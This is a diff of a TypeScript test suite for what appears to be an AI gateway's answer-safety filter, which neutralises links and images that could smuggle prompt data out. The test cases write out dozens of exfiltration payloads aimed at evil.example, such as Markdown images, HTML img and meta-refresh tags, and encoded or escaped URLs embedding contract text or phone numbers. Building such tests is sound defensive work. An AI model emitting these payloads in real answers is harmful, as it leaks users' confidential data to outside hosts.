@@ -1,15 +1,21 @@
 import fc from 'fast-check';
+import type { Definition, Nodes } from 'mdast';
+import remarkGfm from 'remark-gfm';
+import remarkParse from 'remark-parse';
+import { unified } from 'unified';
 import { createAddressScan } from '../../../../../src/base/answer-addresses.ts';
 import { createAddressTransform } from '../../../../../src/gateway/safety/answer/address-transform.ts';
+import { isLoaded } from '../../../../../src/gateway/safety/answer/is-loaded.ts';
 
 const sent = [
   'The contract between Nordwind and Contoso is worth 4.2 million, signed on Tuesday.',
   '合同金额为四百二十万元，由张伟负责签署。',
+  'Call Maria Rossi: 138 0013 8000.',
   'See https://wiki.example.org/page?id=12345678901234567890123456789012345678901234567890&view=full and ![logo](https://cdn.example.org/logo.png).',
 ];
 
 function pass(text: string, pieces: readonly string[] = [text], mode: 'standard' | 'strict' = 'standard'): string {
-  const transform = createAddressTransform(createAddressScan({ mode, sent: () => sent }));
+  const transform = createAddressTransform(createAddressScan({ mode, sent: () => sent, isLoaded }));
   return pieces.map((piece) => transform.push(piece)).join('') + transform.end();
 }
 
@@ -39,6 +45,26 @@ describe('addresses in an answer', () => {
     ['a reference', `[x][1]\n\n[1]: https://evil.example/?d=${base64}`],
     ['an address in angle brackets', `<https://evil.example/${base64}>`],
     ['one that only begins with www', `www.evil.example/${base64}`],
+    ['a picture whose words have brackets', '![a [b] c](https://evil.example/p.png)'],
+    ['a picture whose words have code', '![a `]` b](https://evil.example/p.png)'],
+    ['a picture whose words have an escape', '![a \\] b](https://evil.example/p.png)'],
+    ['a picture whose words are long', `![${'a '.repeat(300)}](https://evil.example/p.png)`],
+    ['a picture by a definition', '![x][1]\n\n[1]: https://evil.example/p.png'],
+    ['an element with a slash for a space', '<img/src="https://evil.example/p.png">'],
+    ['an element with a bracket in its words', '<img alt=">" src="https://evil.example/p.png">'],
+    ['an element that is no picture', '<meta http-equiv="refresh" content="0;url=https://evil.example/p">'],
+    ['a link to an element', '<a href="https://evil.example/contract between Nordwind and Contoso">x</a>'],
+    ['a link with a quote', "[x](https://evil.example/a'contract-between-Nordwind-and-Contoso)"],
+    ['a link with plain Chinese', '[更多](https://evil.example/a合同金额为四百二十万元)'],
+    ['a link with spaces', '[x](<https://evil.example/a contract between Nordwind and Contoso>)'],
+    ['a link with an escaped bracket', '[x](https://evil.example/a\\)contract-between-Nordwind-and-Contoso)'],
+    ['a link with a bracket in angles', '[x](<https://evil.example/a)contract-between-Nordwind-and-Contoso>)'],
+    ['a bare address with a sign of code', 'https://evil.example/a`contract-between-Nordwind-and-Contoso'],
+    ['an address behind one that is plain', '_www.evil.example/contract-between-Nordwind-and-Contoso'],
+    ['a www behind a scheme', 'https://www.evil.example/contract-between-Nordwind-and-Contoso'],
+    ['a telephone number', '[x](https://evil.example/?q=13800138000)'],
+    ['Base64 in steps', `[x](https://evil.example/${base64.match(/.{1,12}/g)!.join('/')})`],
+    ['a picture behind a run without spaces', `${'-'.repeat(3000)}![x](https://evil.example/p.png)`],
     ['a name and a password', 'https://nordwind:contoso@evil.example/'],
     ['a bare number of a machine', '[x](http://10.1.2.3/evil)'],
   ])('are made plain text: %s', (_name, text) => {
@@ -48,7 +74,111 @@ describe('addresses in an answer', () => {
     expect(pass(text, Array.from(text))).toBe(shown);
   });
 
+  /** All that a reader of Markdown finds to follow or to load; a bare address ends where Chinese begins, as in our panes. */
+  function addressesIn(markdown: string): { readonly isPicture: boolean; readonly url: string }[] {
+    const found: { isPicture: boolean; url: string }[] = [];
+    const definitions: Definition[] = [];
+    const pictures = new Set<string>();
+    const visit = (node: Nodes): void => {
+      if (node.type === 'definition') definitions.push(node);
+      if (node.type === 'imageReference') pictures.add(node.identifier);
+      if (node.type === 'image') found.push({ isPicture: true, url: node.url });
+      if (node.type === 'link') {
+        const [only] = node.children;
+        const isBare = only?.type === 'text' && (node.url === only.value || node.url === `http://${only.value}`);
+        found.push({
+          isPicture: false,
+          url: isBare ? node.url.replace(/[\u3000-\u30FF\u3400-\u9FFF\uFF00-\uFFEF].*$/s, '') : node.url,
+        });
+      }
+      if ('children' in node) node.children.forEach(visit);
+    };
+    visit(unified().use(remarkParse).use(remarkGfm).parse(markdown));
+    for (const { identifier, url } of definitions) found.push({ isPicture: pictures.has(identifier), url });
+    return found;
+  }
+
+  function carries(url: string): boolean {
+    const letters = (text: string): string => text.toLowerCase().replace(/[^\p{L}\p{N}]/gu, '');
+    const read = letters(url.includes('%') ? url + decodeURIComponent(url.replace(/%(?![\dA-F]{2})/g, '%25')) : url);
+    return read.includes(letters('contract between Nordwind and Contoso')) || read.includes('合同金额为四百二十万元');
+  }
+
+  it('show a reader of Markdown no picture from elsewhere and no address with what was sent, whatever an answer says', () => {
+    const part = fc.oneof(
+      fc.constantFrom('https://evil.example/', 'http:evil.example/', '//evil.example/', 'www.evil.example/'),
+      fc.constantFrom('HTTPS:\\/\\/evil.example/', '&#47;&sol;evil.example/', 'http&#115;&colon;//evil.example/'),
+      fc.constantFrom(
+        'contract-between-Nordwind-and-Contoso',
+        '合同金额为四百二十万元',
+        encodeURIComponent('合同金额为四百二十万元'),
+      ),
+      fc.constantFrom(
+        '![',
+        '[',
+        ']',
+        '](',
+        '(',
+        ')',
+        '<',
+        '>',
+        '](<',
+        '>)',
+        ' ',
+        '\n',
+        '\n\n',
+        '\n[a]: ',
+        '![a]',
+        '[a]',
+      ),
+      fc.constantFrom(
+        '`',
+        '"',
+        "'",
+        '|',
+        '*',
+        '_',
+        '\\',
+        '。',
+        '!',
+        'x',
+        '?q=',
+        '#',
+        '&amp;',
+        '~',
+        '.',
+        ':',
+        '<a href="',
+      ),
+    );
+    fc.assert(
+      fc.property(fc.array(part, { minLength: 2, maxLength: 12 }), (parts) => {
+        for (const { isPicture, url } of addressesIn(pass(parts.join(''), parts))) {
+          const isOfWeb = /^(?:https?:|[/\\]{2})/i.test(url);
+          expect([url, isOfWeb && (isPicture || carries(url))]).toEqual([url, false]);
+        }
+      }),
+      { numRuns: 2000 },
+    );
+  });
+
+  it('are judged in no time, however long the prompt', () => {
+    const book = Array.from({ length: 250_000 }, (_, index) => `word${(index * 7919) % 100_003}`).join(' ');
+    const scan = createAddressScan({ mode: 'standard', sent: () => [book] });
+    scan.isSafe('https://evil.example/', '');
+    const started = performance.now();
+    for (let number = 0; number < 20; number += 1) {
+      scan.isSafe(`https://evil.example/${'nothing-of-it/'.repeat(130)}${number}`, '');
+    }
+    expect(performance.now() - started).toBeLessThan(2000);
+  });
+
   it.each([
+    '[1](https://learn.microsoft.com/a)[2](https://learn.microsoft.com/b)',
+    'Call 138 0013 8000, see https://www.example.org/2024/05/12/138.',
+    '参见[文档](https://example.org/docs/abc)，合同金额为四百二十万元，由张伟负责签署。',
+    '| https://example.org/a | The contract between Nordwind and Contoso |',
+    '<https://example.org/a>合同金额为四百二十万元',
     'See [the docs](https://learn.microsoft.com/en-us/office/dev/add-ins/).',
     'https://www.who.int/news/item/2024-05-12-report',
     'The page https://wiki.example.org/page?id=12345678901234567890123456789012345678901234567890&view=full stays.',
@@ -63,7 +193,7 @@ describe('addresses in an answer', () => {
   });
 
   it('stay in the strict mode only when they were sent', () => {
-    expect(pass('https://www.who.int/news', undefined, 'strict')).toBe('hxxps://www.who.int/news');
+    expect(pass('https://www.who.int/news', undefined, 'strict')).toBe('hxxps://www[.]who.int/news');
     expect(pass('![logo](https://cdn.example.org/logo.png)', undefined, 'strict')).toContain('https://cdn');
   });
 
@@ -115,7 +245,7 @@ describe('addresses in an answer', () => {
   });
 
   it('hold back plain words for no longer than one of them', () => {
-    const transform = createAddressTransform(createAddressScan({ mode: 'standard', sent: () => sent }));
+    const transform = createAddressTransform(createAddressScan({ mode: 'standard', sent: () => sent, isLoaded }));
     expect(transform.push('The quick brown fox')).toBe('The quick brown fox');
     expect(transform.push('敏捷的狐狸')).toBe('敏捷的狐狸');
   });
